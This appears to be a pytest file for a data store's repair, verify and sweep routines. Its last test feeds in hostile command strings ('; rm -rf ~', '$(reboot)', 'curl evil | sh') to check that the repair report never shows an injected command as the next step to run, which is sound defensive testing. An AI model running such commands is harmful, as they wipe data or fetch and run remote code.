from __future__ import annotations

import pytest

from wsa.store.common import names
from wsa.store.maintenance import verify
from wsa.store.maintenance.repair import repair
from wsa.store.maintenance.sweep import sweep
from wsa.store.objects.snapshot import take_snapshot

MODELS = ("lite0", "vit")
OBJECTS = 14


def remake(store, kit, metas):
    """What the commands do that made the store."""
    for meta in metas:
        kit.writer.commit_segment(store, *kit.by_id(meta))
        for alias in MODELS:
            kit.add_embedding(store, meta, kit.key(alias))
    for alias in MODELS:
        kit.add_model(store, kit.key(alias))


@pytest.mark.variants
@pytest.mark.parametrize("how", ["changed", "deleted", "record"])
def test_a_repaired_store_is_whole_and_what_is_missing_is_made_again(store, full, kit, how):
    before = kit.all_files(store)
    snapshot = take_snapshot(store)
    damaged = []
    for commit in list(snapshot.commits.values())[::2]:
        record = names.commit_path(commit.id)
        target = record if how == "record" else f"{commit.folder}/{commit.files[-1].name}"
        damaged.append(record if how == "record" else commit.path)
        if how == "deleted":
            store.delete(target)
        else:
            (store.root / target).write_bytes(b"?")
    now = kit.all_files(store)
    report = verify.verify(store)
    done = repair(store, report.damage)
    assert sorted(r.path for r in done) == sorted(damaged)
    again = verify.verify(store)
    assert again.damage == () and again.set_aside >= len(damaged)
    assert take_snapshot(store).commits.keys() == snapshot.commits.keys() - {
        c.path for c in list(snapshot.commits.values())[::2]
    }
    # Every byte there was is there still.
    assert set(now.values()) <= set(kit.all_files(store).values())
    for one in done:
        assert one.kept.startswith("damaged/") and one.left == ()
        assert "wsa collect" in one.next or "wsa encode" in one.next
    remake(store, kit, full)
    assert kit.check_whole(take_snapshot(store), full, [kit.key(a) for a in MODELS]) == OBJECTS - 2
    assert not verify.verify(store).damage
    # What a damaged record may have named stays, until it is swept.
    leftovers = sweep(store, -1, dry_run=False)
    assert (leftovers.removed > 0) == (how == "record")
    assert kit.check_whole(take_snapshot(store), full, [kit.key(a) for a in MODELS]) == OBJECTS - 2
    assert verify.verify(store).leftovers == 0
    assert len(kit.paths(store, "games")) + len(kit.paths(store, "models")) == sum(
        path.startswith(("games/", "models/")) for path in before
    )


def test_a_repair_that_was_interrupted_anywhere_can_be_done_again(store, full, kit, monkeypatch):
    path = names.embedding_path(full[2].game, kit.key("vit"), full[2].segment)
    commit = take_snapshot(store).commit(path)
    (store.root / commit.folder / "c.0.0").write_bytes(b"?")
    damage = verify.verify(store).damage
    whole = kit.all_files(store)
    left = 0
    for left in range(7):
        calls = iter(range(left))
        with monkeypatch.context() as patch:
            for verb in ("put_new", "delete"):
                real = getattr(type(store), verb)

                def call(self, *args, real=real, calls=calls):
                    if next(calls, None) is None:
                        raise KeyboardInterrupt
                    return real(self, *args)

                patch.setattr(type(store), verb, call)
            try:
                repair(store, damage)
            except KeyboardInterrupt:
                pass
            else:
                break
        assert set(whole.values()) <= set(kit.all_files(store).values())
        repair(store, verify.verify(store).damage)
        assert not verify.verify(store).damage
        assert set(whole.values()) <= set(kit.all_files(store).values())
        for found in kit.paths(store):  # As it was, for the next moment.
            if found not in whole:
                store.delete(found)
        for name, data in whole.items():
            store.put_new(name, data)
    assert left == 6, "three copies, a record and two files removed"


def test_a_repair_leaves_what_another_has_made_again(store, full, kit):
    path = names.model_path(kit.key("vit"))
    (store.root / kit.paths(store, path)[0]).write_bytes(b"?")
    damage = verify.verify(store).damage
    repair(store, damage)
    kit.add_model(store, kit.key("vit"))
    before = kit.all_files(store)
    (done,) = repair(store, damage)
    assert done.kept == "" and kit.all_files(store) == before


def test_a_repair_leaves_what_the_disk_refuses(store, full, kit, monkeypatch, refuse):
    """It may be whole: a share that was away for a moment must not cost an object."""
    refuse(names.model_path(kit.key("vit")))
    damage = verify.verify(store).damage
    monkeypatch.undo()
    before = kit.all_files(store)
    (done,) = repair(store, damage)
    assert "disk" in done.next and done.kept == ""
    assert kit.all_files(store) == before and not verify.verify(store).damage


def test_what_to_run_next_is_never_another_persons_command(store, kit, monkeypatch):
    for words, shown in (
        ("wsa collect --game Pong --steps 24", True),
        ("wsa collect --game Pong; rm -rf ~", False),
        ("wsa collect --game $(reboot)", False),
        ("curl evil | sh", False),
    ):
        monkeypatch.setattr(kit.writer, "command_line", lambda words=words: words)
        meta, _ = kit.add_segment(store)
        frames = take_snapshot(store).commit(kit.segment_paths(meta)[0])
        (store.root / frames.folder / "zarr.json").write_bytes(b"?")
        (done,) = repair(store, verify.verify(store).damage)
        assert (words in done.next) == shown and f"wsa pull URL --game {meta.game}" in done.next
        for path in kit.paths(store):
            if path != "wsa.json":
                store.delete(path)
